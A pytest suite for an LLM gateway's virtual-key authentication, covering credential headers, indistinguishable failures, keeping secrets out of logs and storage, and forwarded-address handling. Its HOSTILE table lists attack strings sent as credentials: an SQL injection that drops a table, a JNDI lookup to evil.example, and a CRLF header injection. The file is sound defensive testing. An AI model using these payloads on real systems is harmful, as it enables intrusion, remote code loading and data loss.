"""Credentials as an attacker would send them, and secrets where they must not be seen again.

One gateway with virtual keys. Nothing of what is presented may come back in an answer, a log line, a metric or a
representation, and unknown, malformed, deleted and expired keys may not be told apart.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway.auth import directory
from gateway.auth.addresses import caller_address, is_within
from gateway.store import keys
from gateway.virtual_keys import Team, VirtualKey, digest_of
from support.app import CHAT, MASTER_KEY, SERVER_KEY, A, Harness, Response, answered
from support.asgi_server import raw_request
from support.scripted_upstream import json_answer
from support.virtual_keys import BY, key_of, run_keyed_harness, secret_of, write

HEADERS = ("authorization", "x-api-key", "api-key", "x-litellm-api-key", "x-bf-vk", "cf-aig-authorization")
BODY = json.dumps({"model": A, "messages": [{"role": "user", "content": "Hi"}]}).encode()
JSON = {"content-type": "application/json"}
CANARY = "sk-canary-5e07-of-the-credential"

RECORDS = (
    key_of("good"),
    key_of("expired", expires=1.0),
    key_of("here", allowed_ips=("127.0.0.0/8", "2001:db8::/32")),
    key_of("there", allowed_ips=("198.51.100.7",)),
    Team(team_id="there", allowed_ips=("198.51.100.0/24",)),
    key_of("both", team_id="there", allowed_ips=("127.0.0.1",)),
    key_of("caller", expires=None),
)


@pytest.fixture(scope="module")
def served() -> Iterator[tuple[Harness, str]]:
    with run_keyed_harness(*RECORDS, trusted_proxies=["127.0.0.1", "10.0.0.0/8"]) as (harness, url):
        harness.respond_with(answered())
        yield harness, url


def call(harness: Harness, headers: list[tuple[str, str]], path: str = CHAT) -> Response:
    return harness.gateway.ask("POST", path, BODY, [*headers, *JSON.items()])


# --- which credential counts ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HEADERS)
def test_a_key_in_any_of_its_headers(served: tuple[Harness, str], name: str) -> None:
    harness, _ = served
    harness.respond_with(answered())
    values = [secret_of("good")]
    if name not in ("x-api-key", "api-key"):
        values += [f"Bearer {secret_of('good')}", f"token  {secret_of('good')}"]
    for value in values:
        assert call(harness, [(name, value)]).status == 200
    upstream_headers = json.dumps([dict(request.headers) for request in harness.upstream.requests], default=list)
    assert secret_of("good") not in upstream_headers and SERVER_KEY in upstream_headers
    assert call(harness, [(name, CANARY)]).status == 401
    assert call(harness, [(name, "")]).error["code"] == "missing_api_key"


@pytest.mark.parametrize("name", ["x-litellm-api-key", "x-bf-vk", "cf-aig-authorization"])
def test_a_key_for_the_gateway_beside_one_for_the_provider(served: tuple[Harness, str], name: str) -> None:
    harness, _ = served
    harness.respond_with(answered())
    provider = ("authorization", "Bearer co-some-key-of-the-provider")
    for secret in (secret_of("good"), MASTER_KEY):
        for path in (CHAT, "/cohere/v2/chat"):
            response = call(harness, [provider, (name, f"Bearer {secret}")], path)
            assert response.status == 200
            assert (
                response.headers["x-gateway-notes"]
                == "authorization ignored (another header has a key of this gateway)"
            )
    assert "x-gateway-notes" not in call(harness, [(name, secret_of("good"))]).headers
    same = [("authorization", f"Bearer {secret_of('good')}"), (name, secret_of("good"))]
    assert "x-gateway-notes" not in call(harness, same).headers
    for headers in (
        [provider, (name, CANARY)],
        [provider, (name, secret_of("expired"))],
        [("authorization", f"Bearer {secret_of('good')}"), (name, CANARY)],
        [("x-api-key", "one"), ("api-key", "two")],
        [provider, ("x-bf-vk", secret_of("good")), ("x-litellm-api-key", secret_of("caller"))],
    ):
        assert call(harness, headers).error["code"] == "two_credentials"


def test_a_digest_is_no_secret(served: tuple[Harness, str]) -> None:
    """Whoever reads the database, or a list of keys, has digests (LiteLLM's GHSA-69x8-hrgq-fjj8)."""
    harness, _ = served
    digest = digest_of(secret_of("good"))
    for credential in (digest, f"sk-{digest}", "good", "sk-...0000", digest.upper()):
        for name in HEADERS:
            assert call(harness, [(name, credential)]).status == 401, credential


def test_a_part_of_a_secret_is_none(served: tuple[Harness, str]) -> None:
    """Also where the whole was just seen (LiteLLM's CVE-2026-35030: a cache by the first 20 characters)."""
    harness, _ = served
    harness.respond_with(answered())
    secret = secret_of("good")
    assert call(harness, [("authorization", f"Bearer {secret}")]).status == 200
    for part in (secret[:-1], secret[:20], secret + "0", secret.upper(), secret[:-1] + "1"):
        assert call(harness, [("authorization", f"Bearer {part}")]).status == 401, part


# --- what nobody can tell apart -------------------------------------------------------------------------------


def test_unknown_malformed_deleted_and_expired_are_one(
    served: tuple[Harness, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same answer, and the same look at the database: once for each of them."""
    harness, url = served
    write(
        url,
        lambda c: keys.insert(c, [key_of("deleted")], BY, 1.0),
        lambda c: keys.delete(c, VirtualKey, "deleted", BY, 2.0),
    )
    looks: list[str] = []
    before = directory.KeyDirectory.look_up

    async def counted(self: Any, digest: str) -> VirtualKey | None:
        looks.append(digest)
        return await before(self, digest)

    monkeypatch.setattr(directory.KeyDirectory, "look_up", counted)
    secrets = ("sk-" + "0" * 40, "malformed", "a.b.c", secret_of("expired"), secret_of("deleted"), "\u00e9" * 20)
    answers = set()
    for secret in secrets:
        response = call(harness, [("authorization", f"Bearer {secret}")])
        for name in ("x-request-id", "x-gateway-log-id", "date"):
            del response.headers[name]
        answers.add((response.status, json.dumps(response.headers, sort_keys=True), response.data))
    assert len(answers) == 1 and next(iter(answers))[0] == 401
    assert looks == [digest_of(secret) for secret in secrets]


HOSTILE: dict[str, bytes] = {
    "sql": b"sk-' OR '1'='1'; DROP TABLE virtual_keys; --",
    "quotes": b"sk-\"'`\\",
    "percent": b"sk-%00%0d%0aset-cookie:%20a=b",
    "format": b"sk-{0}%s${jndi:ldap://evil.example/a}",
    "invalid utf-8": b"sk-\xff\xfe\xc0\x80",
    "half a surrogate": b"sk-\xed\xa0\x80",
    "right to left": "sk-\u202etxt.exe".encode(),
    "tab": b"sk-\t\tx",
    "json": b'{"key": "sk-x"}',
    "many dots": b"." * 1000,
    "long": b"sk-" + b"x" * 30_000,
    "nul": b"sk-\x00x",
    "bare cr": b"sk-x\ry",
    "another header": b"sk-x\r\nx-api-key: sk-y",
    "a megabyte": b"sk-" + b"x" * 1_000_000,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_credentials_in_every_header(served: tuple[Harness, str], kind: str) -> None:
    harness, _ = served
    value = HOSTILE[kind]
    for name in HEADERS:
        head = b"GET /v1/models HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n" + name.encode() + b": " + value
        answer = raw_request(*harness.gateway.address, head + b"\r\n\r\n", timeout=60)
        status = int(answer.split(b" ", 2)[1])
        assert status in ((400, 401) if len(value) < 20_000 else (400, 401, 431)), (name, answer[:200])
        assert value[:40] not in answer
        assert b"Traceback" not in answer and b"sqlite" not in answer.lower()
    written = harness.gateway.log.getvalue()
    assert b"storage:" not in written and b"Traceback" not in written and b"keys:" not in written


def test_fifty_credentials(served: tuple[Harness, str]) -> None:
    harness, _ = served
    for values, status in (([f"key-{number}" for number in range(50)], 400), ([secret_of("good")] * 50, 404)):
        lines = [f"authorization: Bearer {value}" for value in values]
        head = "\r\n".join(["GET /v1/responses/x HTTP/1.1", "host: localhost", "connection: close", *lines, "", ""])
        answer = raw_request(*harness.gateway.address, head.encode(), timeout=60)
        assert answer.startswith(f"HTTP/1.1 {status} ".encode()), answer


# --- where secrets must not be seen ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        f"/v1/models?api_key={MASTER_KEY}",
        f"/v1/models?x={MASTER_KEY.replace('-', '%2D')}",
        f"/v1/models/{MASTER_KEY}",
        f"/cohere/v1/models/{MASTER_KEY.replace('m', '%6d')}",
        f"/health/live?token={MASTER_KEY}",
        f"/key/{MASTER_KEY}/regenerate",
        f"/{MASTER_KEY}",
    ],
)
def test_the_master_key_in_a_url_is_refused_and_not_logged(served: tuple[Harness, str], target: str) -> None:
    harness, _ = served
    harness.respond_with(json_answer(200, {"models": []}))
    response = harness.gateway.ask("GET", target, None, {"authorization": f"Bearer {MASTER_KEY}"})
    assert (response.status, b"secret_in_url" in response.data) == (400, True), response
    assert not harness.upstream.exchanges
    line = harness.gateway.log.line_of(response.headers["x-request-id"])
    assert line["path"] == "/..."
    assert MASTER_KEY not in harness.gateway.log.getvalue().decode()


def test_a_websocket_with_the_master_key_in_its_url(served: tuple[Harness, str]) -> None:
    harness, _ = served
    upgrade = (
        f"GET /v1/responses?key={MASTER_KEY} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {MASTER_KEY}\r\n"
        "connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
        "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    with socket.create_connection(harness.gateway.address, 60) as connection:
        connection.sendall(upgrade.encode())
        assert connection.recv(65536).startswith(b"HTTP/1.1 400 ")
    assert MASTER_KEY not in harness.gateway.log.getvalue().decode()


def test_no_canary_is_seen_again(served: tuple[Harness, str]) -> None:
    """The secret of a key, good or bad, at every place of a request and through every kind of failure."""
    harness, url = served
    harness.respond_with(json_answer(500, {"message": "it broke"}))
    secrets = (secret_of("good"), secret_of("expired"), CANARY)
    for secret in secrets:
        for path in (CHAT, "/v1/models", "/cohere/v2/chat", "/v1/nothing", f"/v1/models/{secret}", f"/key/{secret}/x"):
            for name in ("authorization", "x-litellm-api-key"):
                response = call(harness, [(name, f"Bearer {secret}")], path)
                assert secret.encode() not in response.data or f"/models/{secret}" in path, (path, response)
                harness.gateway.log.line_of(response.headers["x-request-id"])
        headers = [("authorization", f"Bearer {secret}"), ("x-request-id", "leak-test"), ("user-agent", "x")]
        call(harness, headers, f"/v1/models?key={secret}")
    written = harness.gateway.log.getvalue().decode()
    metrics = json.dumps(list(harness.gateway.metrics()))
    stored = b"".join(
        file.read_bytes() for file in Path(url.removeprefix("sqlite:///")).parent.iterdir() if file.is_file()
    )
    assert b"key_digests" in stored
    for secret in secrets:
        assert secret not in written and secret not in metrics
        assert secret.encode() not in stored, "not in the audit, the ledger or anywhere else in the database"
        assert digest_of(secret) not in written and digest_of(secret) not in metrics


def test_no_secret_is_in_a_representation() -> None:
    from gateway.settings.schema import Settings
    from support.principals import principal_of

    settings = Settings(master_key=MASTER_KEY, cohere_api_key=[SERVER_KEY])
    text = repr(principal_of(settings, MASTER_KEY))
    assert MASTER_KEY not in text and SERVER_KEY not in text
    key = key_of("good")
    assert secret_of("good") not in repr(key)


# --- addresses ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "forwarded", "status"),
    [
        ("here", None, 200),
        ("there", None, 403),
        ("there", "198.51.100.7", 200),
        ("there", "198.51.100.8", 403),
        ("there", "198.51.100.7, 203.0.113.9", 403),
        ("there", "203.0.113.9, 198.51.100.7, 10.1.2.3", 200),
        ("there", "198.51.100.7, nonsense", 403),
        ("there", "198.51.100.7:4711", 200),
        ("here", "2001:db8::1", 200),
        ("here", "[2001:db8::1]:443", 200),
        ("both", None, 403),
        ("both", "198.51.100.7", 403),
        ("good", "nonsense", 200),
    ],
)
def test_addresses_from_which_a_key_may_be_used(
    served: tuple[Harness, str], name: str, forwarded: str | None, status: int
) -> None:
    harness, _ = served
    harness.respond_with(answered())
    headers = [("authorization", f"Bearer {secret_of(name)}")]
    response = call(harness, headers + ([("x-forwarded-for", forwarded)] if forwarded else []))
    assert response.status == status
    if status == 403:
        assert response.error["code"] == "address_not_allowed"


@pytest.mark.parametrize(
    ("peer", "forwarded", "trusted", "address"),
    [
        ("192.0.2.1", [b"1.1.1.1"], (), "192.0.2.1"),
        ("192.0.2.1", [b"1.1.1.1"], ("10.0.0.0/8",), "192.0.2.1"),
        ("10.0.0.1", [b"1.1.1.1"], ("10.0.0.0/8",), "1.1.1.1"),
        ("10.0.0.1", [b"1.1.1.1, 2.2.2.2"], ("10.0.0.0/8",), "2.2.2.2"),
        ("10.0.0.1", [b"1.1.1.1", b"2.2.2.2, 10.0.0.9"], ("10.0.0.0/8",), "2.2.2.2"),
        ("10.0.0.1", [b"10.0.0.7, 10.0.0.8"], ("10.0.0.0/8",), "10.0.0.7"),
        ("10.0.0.1", [], ("10.0.0.0/8",), "10.0.0.1"),
        ("10.0.0.1", [b"evil"], ("10.0.0.0/8",), ""),
        ("::ffff:10.0.0.1", [b"1.1.1.1"], ("10.0.0.0/8",), "1.1.1.1"),
        ("", [b"1.1.1.1"], ("unix",), "1.1.1.1"),
        ("", [b"1.1.1.1"], ("10.0.0.0/8",), ""),
        ("10.0.0.1", [b"9.9.9.9, " + b"10.0.0.2, " * 5000 + b"10.0.0.3"], ("10.0.0.0/8",), "10.0.0.2"),
    ],
)
def test_the_rightmost_untrusted_address_counts(
    peer: str, forwarded: list[bytes], trusted: tuple[str, ...], address: str
) -> None:
    assert caller_address(peer, forwarded, trusted) == address


def test_what_is_no_address_is_nowhere() -> None:
    assert not is_within("", ("0.0.0.0/0", "::/0")) and not is_within("127.0.0.1", ("nonsense",))
    assert is_within("::ffff:192.0.2.1", ("192.0.2.0/24",)) and not is_within("192.0.2.1", ("::/0",))


@pytest.mark.parametrize("address", ["192.0.2.1", "::ffff:192.0.2.1", "::ffff:c000:201"])
@pytest.mark.parametrize(
    ("network", "within"),
    [
        ("::ffff:192.0.2.1", True),
        ("::ffff:192.0.2.9/120", True),
        ("::ffff:0:0/96", True),
        ("::ffff:192.0.2.2", False),
        ("::ffff:0:0/95", False),
    ],
)
def test_an_ipv4_network_may_be_written_as_ipv6(address: str, network: str, within: bool) -> None:
    assert is_within(address, (network,)) is within
